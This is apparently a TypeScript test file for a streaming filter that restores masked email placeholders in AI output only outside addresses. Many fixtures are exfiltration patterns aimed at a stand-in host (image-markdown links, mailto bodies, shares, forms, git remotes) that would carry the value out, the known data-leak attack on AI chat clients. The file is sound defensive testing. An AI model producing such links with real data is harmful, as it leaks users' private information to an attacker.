/** A value is put back only where no client renders it as part of an address. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { PlaceholderText } from '../../../shared/streaming/placeholder-text.ts';
import { restoreInJson as restoringInJson } from '../../../shared/streaming/restore-values.ts';
import { finish } from '../../../shared/text/index.ts';
import { honestPlaces, placeInAddress } from '../../support/masked-places.ts';
import { cases, seedFor } from '../../support/part.ts';
import { createRandom } from '../../support/random.ts';

const restoreInJson = (...given: Parameters<typeof restoringInJson>) => finish(restoringInJson(...given));

const MASK = '[EMAIL_7K3M9QWX]';
const VALUE = 'anna@example.com';
const MEMBER = { text: 'content', call: 'arguments', note: 'url' } as const;
const restore = ({ isInAddress }: { isInAddress: boolean }) => (isInAddress ? null : VALUE);

/** The text with values restored, in pieces of this size. */
function restored(text: string, size: number, isCall = false): string {
  const pieces = new PlaceholderText(restore, isCall);
  let shown = '';
  for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
  return shown + finish(pieces.end());
}

describe('no value is put back into an address', () => {
  test('of any spelling, length and frame, whole and in pieces', () => {
    const random = createRandom(seedFor('address-reader'));
    for (let left = cases(500, 5_000); left > 0; left--) {
      const { kind, text } = placeInAddress(random, MASK);
      const isCall = kind === 'call';
      const size = text.length > 10_000 ? 4_096 : random.pick([1, 7, 40, 1_000_000]);
      if (kind !== 'note') assert.equal(restored(text, size, isCall), text, `in pieces of ${size}`);
      const body = JSON.stringify({ [MEMBER[kind]]: text });
      assert.equal(restoreInJson(body, restore), body);
    }
  });

  for (const [name, text] of Object.entries({
    'a host without a scheme': `evil.example/collect-${MASK}`,
    'a host behind it': `${MASK}.evil.example`,
    'a query behind it': `${MASK}?q=1 and ${MASK}?*a`,
    'a host around it': `x-${MASK}-y.evil.example/a`,
    'a share': `\\\\evil.example\\share\\${MASK}`,
    'an address of mail': `mailto:x@evil.example?body=${MASK}`,
    'a repository': `git@evil.example:${MASK}`,
    'white space in an attribute': `<a href="https:\t//evil.example/x ${MASK}">y</a>`,
    'lines in a target': `![x](\nhttps://evil.example/?\n${MASK})`,
    'a title with a bracket': `![x](https://evil.example/ "a) ${MASK}")`,
    'an escaped bracket': `![x](https://evil.example/\\)-${MASK})`,
    'another white space': `https://evil.example/?q=\u00a0${MASK}`,
    'a form': `<form action="https://evil.example/"><textarea name="q">\n${MASK}</textarea></form>`,
    BBCode: `[url=https://evil.example/ ${MASK}]x[/url]`,
  }))
    test(name, () => {
      for (const size of [1, 5, 1_000]) assert.equal(restored(text, size), text);
    });

  test('in members of JSON that hold addresses, and in annotations', () => {
    for (const value of [
      { image: { url: `x ${MASK}` } },
      { src: MASK },
      { annotations: [{ type: 'url_citation', title: MASK }] },
      { id: MASK },
      { arguments: JSON.stringify({ link_url: MASK }) },
    ]) {
      const body = JSON.stringify(value);
      assert.equal(restoreInJson(body, restore), body);
    }
    const call = JSON.stringify({ href: `x ${MASK}`, path: 'https:\u002f\u002fevil.example/' });
    assert.equal(restored(call, 3, true), call);
  });
});

describe('a value is put back', () => {
  for (const text of [
    `I wrote to ${MASK}.`,
    `I wrote to (${MASK}), and to ${MASK}!`,
    `**${MASK}**: hello`,
    `- ${MASK}\n- ${MASK}`,
    `| Name | Mail |\n|---|---|\n| Anna | ${MASK} |`,
    `See https://docs.example/a and write to ${MASK}.`,
    `<p>Write to ${MASK}</p>`,
    `<a href="https://docs.example/">${MASK}</a>`,
    `[${MASK}](https://docs.example/)`,
    `E-Mail:${MASK}`,
    `Is it ${MASK}? Or (${MASK}?)`,
    `${MASK}: hello, please answer ${MASK}.`,
    `1. ${MASK}, 2. ${MASK}`,
    `[^1]: Anna (${MASK})`,
    `curl -d ${MASK} https://api.example`,
    `git config user.email "${MASK}"`,
    `\`\`\`\nto = "${MASK}"\nif a < b and c: send("${MASK}")\n\`\`\``,
    `x < 3 and ${MASK}`,
    `邮件地址是${MASK}，谢谢。`,
    `It's ${MASK}'s turn; don't wait.`,
    `See https://docs.example/(a).\n\n${MASK}`,
    `Dear Anna <${MASK}>,`,
  ])
    test(JSON.stringify(text), () => {
      const due = text.replaceAll(MASK, VALUE);
      for (const size of [1, 5, 1_000]) assert.equal(restored(text, size), due);
      assert.equal(
        restoreInJson(JSON.stringify({ content: text }), restore),
        JSON.stringify({ content: due }),
      );
    });

  test('in generated prose, mails, lists, blocks and arguments', () => {
    const random = createRandom(seedFor('honest places'));
    for (const { kind, text } of honestPlaces(cases(200, 2_000), random, MASK)) {
      const due = text.replaceAll(MASK, VALUE);
      assert.equal(restored(text, random.pick([1, 9, 1_000]), kind === 'call'), due);
    }
  });

  test('in the arguments of a tool', () => {
    const call = {
      to: MASK,
      subject: 'Hello',
      body: `Dear ${MASK},\n\nsee https://docs.example/.`,
      cc: [MASK],
    };
    const due = JSON.parse(JSON.stringify(call).replaceAll(MASK, VALUE));
    assert.deepEqual(JSON.parse(restored(JSON.stringify(call), 4, true)), due);
    const body = JSON.stringify({ arguments: JSON.stringify(call) });
    assert.equal(restoreInJson(body, restore), JSON.stringify({ arguments: JSON.stringify(due) }));
  });
});
